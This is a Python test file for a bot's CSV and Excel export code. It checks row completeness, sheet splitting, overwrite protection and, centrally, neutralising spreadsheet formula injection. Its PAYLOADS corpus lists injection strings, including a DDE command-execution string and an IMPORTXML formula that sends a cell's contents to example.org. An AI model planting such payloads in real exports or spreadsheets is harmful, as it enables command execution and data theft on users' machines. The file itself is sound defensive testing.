"""Export files read back: every row is there, nothing in them runs, and both formats say the same."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from bot.exporting import ExportResult, export
from bot.exporting.cells import CUT, LONGEST_CELL, clean, harmless
from bot.exporting.comma import CommaFiles
from bot.exporting.sheets import Wording, glossary
from bot.exporting.workbook import Workbook
from flows.library import Library
from storage import vocabulary
from storage.database import Database
from storage.export import COLUMNS, Selection
from storage.periods import days
from storage.stats import totals
from tests.storage.ledgers import STARTED, Ledger, Person, at, contact, turn, write_down

pytestmark = pytest.mark.anyio

JUNE = days(dt.date(2025, 6, 1), dt.date(2025, 6, 30))
LATE = at("2025-12-01")

_COMMANDS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org","x")',
    'IMPORTXML(CONCAT("http://example.org?v=",A1),"//a")',
    'WEBSERVICE("http://example.org")',
    'DDE("cmd";"/C calc";"x")',
)
_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫")
_BEFORE = ("", " ", "\t", "\r", "\n", "\0", "\x0b", "\u00a0", "\u200b", "\u200f", "\u2066", "\ufeff")
PAYLOADS = sorted(
    {f"{start}{command}" for start in _STARTS for command in _COMMANDS}
    | {f"{before}{start}1+1" for before in _BEFORE for start in _STARTS}
    | {"\t1", "\r1", "\n1", "\0", "+212612345678", "-1", "@user", "=", "-", '="",=1+1', "=1\r\n=2"}
)
PLAIN = ("", "Agourai", "أكوراي", "12", "'quoted'", "a=b", "a-b", "1 + 1", "«شكرا»", "🙂", "é=1")

LEDGER = Ledger(
    people=[
        Person(1, sex="female", commune="agourai", birth_year=2001),
        Person(2, commune="=1+1"),
        Person(3, is_test=True),
    ],
    contacts=[
        contact(1, "listening", "2025-06-03"),
        contact(2, "orientation", "2025-06-04", channel="mobile"),
    ],
    interactions=[turn(1, "2025-06-03"), turn(2, "2025-06-04", kind="media"), turn(3, "2025-06-04")],
)


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def _book(path: Path) -> Any:
    return openpyxl.load_workbook(path)


@pytest.fixture
async def written(database: Database) -> Database:
    """The ledger above."""
    async with database.write() as tx:
        await write_down(tx, LEDGER)
    return database


async def _export(
    database: Database, library: Library, path: Path, format: str, language: str = "fr"
) -> tuple[ExportResult, list[tuple[int, int]]]:
    told: list[tuple[int, int]] = []
    result = await export(
        database,
        library,
        JUNE,
        format,
        language,
        path,
        lambda done, total: told.append((done, total)),
        started_on=STARTED,
        as_of=LATE,
    )
    return result, told


def test_a_corpus_of_formulas_is_harmless_in_csv(tmp_path: Path) -> None:
    """Each payload is read back with an apostrophe first and without control characters."""
    assert len(PAYLOADS) >= 50
    path = tmp_path / "payloads.csv"
    with CommaFiles(path) as file:
        file.open_sheet("payloads", "payloads", ["=header"], [10])
        file.write([payload] for payload in PAYLOADS)
    rows = _read(path)
    assert len(rows) == len(PAYLOADS) + 1
    assert [row for row in rows if len(row) != 1 or not row[0].startswith("'")] == []
    assert path.read_bytes().startswith(b'\xef\xbb\xbf"\'=header"')
    assert all(line.startswith('"') for line in path.read_text("utf-8-sig").splitlines())


def test_a_corpus_of_formulas_is_text_in_a_workbook(tmp_path: Path) -> None:
    """Each payload is a cell of text; the file holds no formula and no link."""
    path = tmp_path / "payloads.xlsx"
    with Workbook(path, right_to_left=False) as book:
        book.open_sheet("payloads", "payloads", ["=header"], [10])
        book.write([payload] for payload in PAYLOADS)
    sheet = _book(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}  # n: a cell that came out empty
    assert [cell for cell in cells if cell.data_type == "n" and cell.value is not None] == []
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    assert [cell.value or "" for cell in cells][1:] == [clean(payload) for payload in PAYLOADS]


@pytest.mark.parametrize("text", PLAIN)
def test_plain_cells_stay_as_they_are(text: str) -> None:
    """Nothing is put before what no spreadsheet would run."""
    assert harmless(text) == clean(text) == text


def test_a_cell_that_is_too_long_is_cut_visibly(tmp_path: Path) -> None:
    """What was cut ends in a mark, and the workbook takes it."""
    path = tmp_path / "long.xlsx"
    with Workbook(path, right_to_left=False) as book:
        book.open_sheet("long", "long", ["a", "b"], [10, 10])
        book.write([["x" * LONGEST_CELL, "y" * (LONGEST_CELL + 1)]])
    whole, cut = next(_book(path).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert whole == "x" * LONGEST_CELL
    assert len(cut) == LONGEST_CELL and cut.endswith(CUT)


def test_a_sheet_that_is_full_goes_on_in_another(tmp_path: Path) -> None:
    """Each part has the header; no row is lost."""
    path = tmp_path / "full.xlsx"
    with Workbook(path, right_to_left=True, most_rows=4) as book:
        book.open_sheet("full", "A title that is longer than sheets may have", ["number"], [10])
        book.write([number] for number in range(7))
    sheets = _book(path).worksheets
    values = [[row[0] for row in sheet.iter_rows(values_only=True)] for sheet in sheets]
    assert values == [["number", 0, 1, 2], ["number", 3, 4, 5], ["number", 6]]
    assert [sheet.auto_filter.ref for sheet in sheets] == ["A1:A4", "A1:A4", "A1:A2"]
    assert len({sheet.title for sheet in sheets}) == 3


async def test_a_workbook_read_back(written: Database, library: Library, tmp_path: Path) -> None:
    """Three sheets with names in French, real dates, a header that stays, a filter."""
    result, told = await _export(written, library, tmp_path / "june.xlsx", "xlsx")
    assert (result.rows, result.paths) == (4, (tmp_path / "june.xlsx",))
    assert told == [(0, 4), (2, 4), (4, 4)]
    book = _book(result.path)
    assert book.sheetnames == ["Interactions", "Services rendus", "Explications"]
    contacts = book["Services rendus"]
    header, first, second = (list(row) for row in contacts.iter_rows(values_only=True))
    assert header[:4] == ["Date et heure", "Personne", "Service", "Canal"]
    row = dict(zip(COLUMNS["contacts"], first, strict=True))
    assert row["happened_at"] == dt.datetime(2025, 6, 3, 12)  # noqa: DTZ001 - files know no zones
    assert (row["service"], row["outcome"], row["by_staff"]) == ("Écoute", "Information donnée", "Non")
    assert (row["sex"], row["age_band"], row["commune"]) == ("Femme", "18 à 24 ans", "Agourai")
    assert second[COLUMNS["contacts"].index("commune")] == "=1+1"
    assert all(cell.data_type != "f" for sheet in book for line in sheet.iter_rows() for cell in line)
    assert contacts.freeze_panes == "A2" and contacts.auto_filter.ref == "A1:L3"
    assert contacts.column_dimensions["B"].width > 15
    assert not contacts.sheet_view.rightToLeft


async def test_in_arabic_sheets_are_read_from_the_right(
    written: Database, library: Library, tmp_path: Path
) -> None:
    """All of them, and the names are Arabic."""
    result, _ = await _export(written, library, tmp_path / "june.xlsx", "xlsx", "ar")
    book = _book(result.path)
    assert book.sheetnames == ["التفاعلات", "الخدمات المقدمة", "الشرح"]
    assert all(sheet.sheet_view.rightToLeft for sheet in book)
    assert book["الخدمات المقدمة"]["C2"].value == "الاستماع"


async def test_csv_says_the_same(written: Database, library: Library, tmp_path: Path) -> None:
    """Three files; numbers equal the totals, and the payload in a commune does not run."""
    result, _ = await _export(written, library, tmp_path / "june.csv", "csv")
    assert [path.name for path in result.paths] == ["june.csv", "june-contacts.csv", "june-glossary.csv"]
    turns, contacts, _ = (_read(path) for path in result.paths)
    async with written.read() as tx:
        counted = await totals(tx, JUNE, STARTED, LATE)
    assert (len(turns) - 1, len(contacts) - 1) == (counted.interactions, counted.contacts) == (2, 2)
    assert contacts[1][0] == "2025-06-03 12:00:00"
    assert contacts[2][COLUMNS["contacts"].index("commune")] == "'=1+1"
    people = {row[1] for row in turns[1:]}
    assert people == {row[1] for row in contacts[1:]} and len(people) == counted.active


@pytest.mark.parametrize("language", ["ar", "ary", "fr", "en"])
def test_the_glossary_explains_every_column_and_code(library: Library, language: str) -> None:
    """Nothing is left without a meaning, and every code has a name of its own in its column."""
    lines = list(glossary(Wording(library, language), Selection(JUNE, STARTED, LATE)))
    assert [line for line in lines if not line[2]] == []
    codes = [line for line in lines if line[1]]
    listed = {
        *vocabulary.SERVICES,
        *vocabulary.OUTCOMES,
        *vocabulary.CHANNELS,
        "ain_taoujdate",
        "staff_reply",
    }
    assert listed <= {line[1] for line in codes}
    assert [line for line in codes if line[1] == line[2]] == []
    assert len({(line[0], line[2]) for line in codes}) == len(codes)


async def test_an_older_file_is_never_written_over(
    written: Database, library: Library, tmp_path: Path
) -> None:
    """Neither by csv nor by xlsx; what was there stays."""
    for format in ("csv", "xlsx"):
        path = tmp_path / f"june.{format}"
        path.write_text("precious")
        with pytest.raises(FileExistsError):
            await _export(written, library, path, format)
        assert path.read_text() == "precious"


async def test_an_export_that_fails_leaves_nothing(
    written: Database, library: Library, tmp_path: Path
) -> None:
    """Half a file would look like a whole one."""
    for format in ("csv", "xlsx"):
        with pytest.raises(RuntimeError):
            await export(
                written,
                library,
                JUNE,
                format,
                "fr",
                tmp_path / "new" / f"june.{format}",
                _fail,
                started_on=STARTED,
                as_of=LATE,
            )
    assert list((tmp_path / "new").iterdir()) == []
    with pytest.raises(ValueError, match="pdf"):
        await _export(written, library, tmp_path / "june.pdf", "pdf")


def _fail(done: int, total: int) -> None:
    if done:
        raise RuntimeError("the disk is full")


async def test_the_loop_stays_free(database: Database, library: Library, tmp_path: Path) -> None:
    """While 20,000 rows are written, nobody else waits for long, not even who writes to the database."""
    many = [turn(1, "2025-06-03") for _ in range(20_000)]
    async with database.write() as tx:
        await write_down(tx, Ledger(people=[Person(1)], interactions=many))
    task = asyncio.create_task(_export(database, library, tmp_path / "many.xlsx", "xlsx"))
    waits = []
    while not task.done():
        before = asyncio.get_running_loop().time()
        await asyncio.sleep(0.005)
        waits.append(asyncio.get_running_loop().time() - before)
        async with database.write() as tx:
            await tx.exec_driver_sql("UPDATE staff SET active = active")
    result, told = await task
    assert result.rows == 20_000 and len(told) == 11
    assert sorted(waits)[len(waits) // 2] < 0.1
    assert len(waits) > 5
